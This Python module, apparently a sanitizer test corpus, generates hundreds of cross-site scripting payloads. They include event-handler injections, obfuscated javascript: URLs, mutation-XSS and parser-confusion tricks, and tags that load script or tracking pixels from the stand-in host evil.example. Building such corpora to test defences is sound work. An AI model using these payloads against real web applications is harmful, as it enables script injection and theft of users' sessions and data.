# ruff: noqa: E501 - tables of text are read whole
"""Hostile HTML, generated: every known way to run a script, times the ways to write it."""

from collections.abc import Iterator
from itertools import product

HANDLERS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontoggle", "onbegin",
    "onpointerenter", "onwheel", "oncontentvisibilityautostatechange", "onscrollend", "onbeforematch", "ONERROR",
)  # fmt: skip
CARRIERS = (
    "<img src=x {h}=hit()>", "<svg {h}=hit()>", '<p {h}="hit()">x</p>', '<a href="#" {h}=hit()>x</a>',
    "<details open {h}=hit()><summary>x</summary></details>", "<table><td {h}=hit()>x</td></table>",
    "<input autofocus {h}=hit()>", '<img/src="x"/{h}=hit()//', "<body {h}=hit()>", "<x {h}=hit() tabindex=1 autofocus>x",
    "<video><source {h}=hit()></video>", "<math><mi {h}=hit()>x</mi></math>", "<img src='x'{h}='hit()'>",
    "<ol start=1 {h}=hit()><li>x</li></ol>", '<span data-mention="0123456789" {h}=hit()>@x</span>',
)  # fmt: skip
SCRIPT_ADDRESSES = (
    "javascript:hit()", "JaVaScRiPt:hit()", " javascript:hit()", "java\tscript:hit()", "java\nscript:hit()",
    "java&#x0A;script:hit()", "javascript&colon;hit()", "&#106;avascript:hit()", "\x01javascript:hit()",
    "data:text/html,<script>hit()</script>", "data:image/svg+xml,<svg onload=hit()>", "vbscript:hit()",
    "//evil.example/x", "/\\evil.example", "\\\\evil.example", "https:/\\evil.example", "blob:https://x/1",
    "file:///etc/passwd", "https://user:pw@evil.example/", "jav\u200bascript:hit()", "feed:javascript:hit()",
)  # fmt: skip
ADDRESS_CARRIERS = (
    '<a href="{a}">x</a>', "<a href='{a}'>x</a>", '<img src="{a}">', '<iframe src="{a}"></iframe>',
    '<form action="{a}"><button>x</button></form>', '<a xlink:href="{a}">x</a>', '<svg><a xlink:href="{a}"><text>x</text></a></svg>',
    '<object data="{a}"></object>', '<embed src="{a}">', '<base href="{a}">', '<link rel=stylesheet href="{a}">',
    '<meta http-equiv=refresh content="0;url={a}">', '<table background="{a}"><td>x</td></table>',
    '<span data-mention="{a}">@x</span>', '<div style="background:url({a})">x</div>', '<video poster="{a}"></video>',
)  # fmt: skip
MUTANTS = (
    "<script>hit()</script>", "<scr<script>ipt>hit()</scr</script>ipt>", "<<script>hit()//<</script>", "<script src=//evil.example>",
    '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=hit()>">', "<svg><style><img src=x onerror=hit()></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<template><script>hit()</script></template>", "<textarea></textarea><img src=x onerror=hit()></textarea>",
    "<title><img src=x onerror=hit()></title>", "<xmp><img src=x onerror=hit()></xmp>", "<plaintext><img src=x onerror=hit()>",
    "<!--><img src=x onerror=hit()>-->", "<!--[if IE]><script>hit()</script><![endif]-->", "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?xml version=1?><script>hit()</script>", "<style>@import 'javascript:hit()';</style>", "<p style='x:expression(hit())'>x</p>",
    "<a href='x' style='position:fixed;inset:0'>cover</a>", "<pre><code></code></pre><script>hit()</script>",
    "<table><script>hit()</script></table>", "<select><option></select><img src=x onerror=hit()>", "<p title=`><img src=x onerror=hit()>`>",
    "&lt;script&gt;hit()&lt;/script&gt;", '<a href="https://x/" onclick\n=\nhit()>x</a>', "<img src=x onerror\x0b=hit()>",
    '<img src="/files/0123456789/x" onerror=hit()>', "<img src='/files/0123456789/\"onerror=hit()//x'>",
    "<p id=cookie name=body class=modal data-behaviour=editor>clobber</p>", "<a hx-get=/x hx-trigger=load>x</a>",
    "<div hx-post='/people/delete' data-hx-trigger=load>x</div>", "<button formaction=javascript:hit()>x</button>",
    "<frameset onload=hit()>", "<marquee onstart=hit()>x</marquee>", "<isindex type=image src=1 onerror=hit()>",
    "<div><a href='/logout'>x</a><portal src=//evil.example></div>", "<link rel=prefetch href=//evil.example>",
    "<img src=//evil.example/pixel.gif>", "<img srcset='//evil.example/x 1x'>", "<picture><source srcset=//evil.example></picture>",
    "<a ping=//evil.example href=/x>x</a>", "<p>\x00<\x00script>hit()</script>", "<p>\ud800</p>", "<p>\u202egnp.exe</p>",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """Each payload once."""
    for carrier, handler in product(CARRIERS, HANDLERS):
        yield carrier.format(h=handler)
    for carrier, address in product(ADDRESS_CARRIERS, SCRIPT_ADDRESSES):
        yield carrier.format(a=address)
    yield from MUTANTS
